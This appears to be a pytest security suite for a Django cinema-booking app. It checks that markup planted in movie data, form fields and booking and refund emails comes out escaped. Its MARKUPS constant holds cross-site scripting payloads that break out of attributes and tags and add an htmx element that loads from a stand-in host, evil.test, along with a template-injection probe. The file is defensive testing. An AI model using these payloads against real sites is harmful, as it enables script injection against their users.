"""Whatever people and TMDb call things is text: markup in every text of every row, on every page, in every mail. Each
text is made to close whatever it may stand in (an attribute, a title, a script) and to begin an element that a page
would obey."""

from __future__ import annotations

from email import message_from_bytes
from email.policy import default as mail_policy
from typing import Any

import pytest
from django.test import Client

from bookings import mails as booking_mails
from bookings.selectors import booking_full
from movy.lib.money import Money
from movy.outbox.models import Mail
from payments import mails as payment_mails
from payments.models import Refund
from tests.security.matrix import Row
from tests.security.page_world import PageWorld, page_world, undone
from tests.security.planting import plant
from tests.security.strict import Page
from tests.security.test_forms import whose
from tests.security.test_page_headers import LOOKS, shown_to
from tests.security.test_page_matrix import ROWS, ask, text

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("paystack", "tmdb", "google")]

MARK = "data-planted"
MARKUPS = (
    f"\"'></title></textarea></script></style>--><b {MARK} hx-get=//evil.test hx-trigger=load>{{{{ 7*7 }}}}",
    f'"><b {MARK} hx-get=/>',
    f"<b {MARK}>",
)
"""The longest that fits into a field is planted in it."""


@pytest.fixture
def here() -> PageWorld:
    world = page_world()
    assert plant(MARKUPS) > 50
    return world


def send(here: PageWorld, row: Row) -> Any:
    return here.browser(whose(row)).post(row.path(here), row.body(here), follow=not row.route.startswith("booking/pay"))


def html(answer: Any) -> str:
    """Return what a browser reads as markup: a page, or what our script puts into one."""
    kind = answer.get("Content-Type", "").partition(";")[0]
    if kind == "application/json" and "preview" in answer.json():
        return answer.json()["preview"]
    return text(answer) if kind in ("text/html", "image/svg+xml") else ""


def html_of(mail: Mail) -> list[str]:
    message = message_from_bytes(bytes(mail.content), policy=mail_policy)
    return [part.get_content() for part in message.walk() if part.get_content_type() == "text/html"]


def test_markup_is_text_on_every_page(here):
    wrong, shown = [], 0
    for row in LOOKS:
        with undone():
            page = html(ask(here, shown_to(row), row))
        shown += MARK in page
        wrong += [f"{row}: {element}" for element in Page(page, mark=MARK).planted]
    assert not wrong, "\n".join(wrong)
    assert shown > 60  # as text


def test_markup_is_text_in_what_is_answered_to_a_form_and_in_what_is_mailed(here):
    wrong, mailed = [], 0
    before = Mail.objects.count()
    for row in ROWS:
        if row.method != "POST":
            continue
        with undone():
            pages = [html(send(here, row))]
            mails = [part for mail in Mail.objects.order_by("pk")[before:] for part in html_of(mail)]
        mailed += len(mails)
        wrong += [f"{row}: {element}" for page in pages + mails for element in Page(page, mark=MARK).planted]
    assert not wrong, "\n".join(wrong)
    assert mailed >= 3


def test_markup_is_text_in_every_mail_about_a_booking(here):
    booking, refund = booking_full(here.api.paid.reference), here.rows[Refund]
    assert booking is not None
    money, seats = Money(100, "NGN"), [MARKUPS[0]]
    before = Mail.objects.count()
    booking_mails.mail_confirmed(booking, booking.seats.kept().select_related("ticket"))
    booking_mails.mail_cancelled(booking, seats=seats, refund=money)
    booking_mails.mail_moved(booking, seats=[(MARKUPS[0], MARKUPS[1])])
    booking_mails.mail_office_refund(booking, seats=seats, refund=money, by_hand=True)
    booking_mails.mail_called_off(booking, note=MARKUPS[0], refund=money, by_hand=False)
    payment_mails.mail_refund(refund)
    mails = [part for mail in Mail.objects.order_by("pk")[before:] for part in html_of(mail)]
    assert len(mails) == 6
    for mail in mails:
        assert MARK in mail
        assert Page(mail, mark=MARK).planted == []


def test_markup_typed_by_somebody_is_text_where_it_is_shown_again(client: Client):
    for page, field in (
        ("/movies", "search"),
        ("/movies", "city"),
        ("/theatres", "city"),
        ("/auth/user/login", "next"),
    ):
        answer = client.get(page, {field: MARKUPS[0]})
        assert answer.status_code < 500
        assert Page(text(answer), mark=MARK).planted == []
    for page in ("/auth/user/login", "/auth/user/signup", "/auth/user/forgot-password"):
        typed = dict.fromkeys(("email", "password", "first_name", "last_name", "next"), MARKUPS[0])
        answer = client.post(page, typed)
        assert answer.status_code == 400
        assert Page(text(answer), mark=MARK).planted == []


def test_a_template_that_does_not_escape_would_be_noticed(here, monkeypatch):
    monkeypatch.setattr("django.template.base.conditional_escape", str)
    with undone():
        page = text(ask(here, "nobody", next(row for row in LOOKS if row.route == "theatres")))
    assert Page(page, mark=MARK).planted
